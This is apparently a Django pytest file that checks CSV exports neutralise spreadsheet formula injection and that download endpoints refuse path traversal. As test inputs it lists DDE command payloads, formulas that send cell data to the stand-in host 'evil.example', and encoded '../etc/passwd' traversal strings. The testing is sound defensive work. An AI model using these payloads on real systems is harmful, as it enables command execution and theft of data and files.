"""Export files: no CSV cell a spreadsheet would run as a formula, and no download that serves
a file from outside the export store, whatever the request or a tampered row says.

Figures: formula payloads and CSV cells checked, live formulas (must be 0); traversal attempts
and files served from outside the store (must be 0).
"""

import csv
import io
import json

import pytest
from django.test import Client
from rest_framework.test import APIClient

from core.csv_safe import FORMULA_STARTS
from feedback.models import ApiKey
from feedback.services import api_key_create
from tests.factories import FeedbackFactory, PredictionFactory, ProjectFactory
from tests.helpers import member
from triage.models import DatasetExport
from triage.services.export_build import export_build
from triage.services.exports import export_request

pytestmark = pytest.mark.django_db

# What a spreadsheet would run: plain formulas, DDE, functions that fetch or leak, and the
# characters Excel and LibreOffice also accept to start one.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
]


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def outside_file(tmp_path):
    secret = tmp_path / "outside-the-store.txt"
    secret.write_text("not-an-export-4c2e")
    return secret


def built(project, fmt):
    export = export_request(project=project, format=fmt, actor=None)
    export_build(export_id=export.id)
    export.refresh_from_db()
    assert export.status == DatasetExport.Status.SUCCEEDED, export.error
    with export.file.open("rb") as file:
        return export, file.read()


def test_no_csv_cell_can_run_as_a_formula(figures):
    # No label set: the corrected label is the customer's free text, as untrusted as the rest.
    project = ProjectFactory(labels=[])
    for number, formula in enumerate(FORMULAS):
        prediction = PredictionFactory(
            project=project, request_id=formula + str(number), input_text=formula,
            predicted_label=formula,
        )  # fmt: skip
        FeedbackFactory(prediction=prediction, corrected_label=f"{formula} (right)")

    _, content = built(project, "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    figures.update(formula_payloads=len(FORMULAS), csv_cells=len(cells), live_formulas=len(live))
    assert len(rows) == len(FORMULAS) + 1
    assert live == []
    # The text is kept, shown as text: the apostrophe is all that was added.
    assert {row[1] for row in rows[1:]} == {"'" + formula for formula in FORMULAS}

    # The control: JSON Lines carries every payload unchanged.
    _, jsonl = built(project, "jsonl")
    texts = {json.loads(line)["input_text"] for line in jsonl.splitlines()}
    assert texts == set(FORMULAS)


def test_downloads_never_serve_a_file_from_outside_the_store(outside_file, figures):
    project = ProjectFactory()
    prediction = PredictionFactory(project=project)
    FeedbackFactory(prediction=prediction, corrected_label="lost_or_stolen_card")
    reviewer = member(project, "reviewer")
    _, key = api_key_create(project=project, scopes=[ApiKey.Scope.EXPORT])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    team = Client()
    team.force_login(reviewer)
    export, _ = built(project, "csv")
    api_base = f"/api/v1/projects/{project.slug}/exports"
    page_base = f"/p/{project.slug}/exports"
    # The control: by its id, the export is served to both.
    assert api.get(f"{api_base}/{export.id}/download").status_code == 200
    assert team.get(f"{page_base}/{export.id}/download").status_code == 200

    # The path in the request: ids that are not ids, escapes in every spelling.
    escapes = [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd",
        "..%252f..%252fetc%252fpasswd", "....//....//etc/passwd", "%2fetc%2fpasswd",
        "..\\..\\etc\\passwd", f"{export.id}/../../../etc/passwd", f"{export.id}%00.csv",
        str(outside_file), f"{export.id}/download/../../../../etc/passwd",
    ]  # fmt: skip
    attempts, served = [], []
    for escape in escapes:
        for client, base in ((api, api_base), (team, page_base)):
            for suffix in (f"/{escape}/download", f"/{escape}", f"/{export.id}/download/{escape}"):
                response = client.get(base + suffix)
                attempts.append((base + suffix, response.status_code))
                if response.status_code == 200:
                    served.append(base + suffix)

    # The path in a tampered row: the stored file name pointing out of the store.
    for name in ("../../../../etc/passwd", "/etc/passwd", str(outside_file)):
        DatasetExport.objects.filter(id=export.id).update(file=name)
        for client, base in ((api, api_base), (team, page_base)):
            response = client.get(f"{base}/{export.id}/download")
            attempts.append((name, response.status_code))
            body = b"".join(response.streaming_content) if response.streaming else response.content
            if response.status_code == 200 or b"root:" in body or b"not-an-export" in body:
                served.append(f"{base} with file={name}")

    figures.update(traversal_attempts=len(attempts), served_from_outside=len(served))
    assert served == [], served
    # 409: the API says the export has no file to serve (as for one not built yet).
    assert {status for _, status in attempts} <= {400, 404, 409}, attempts
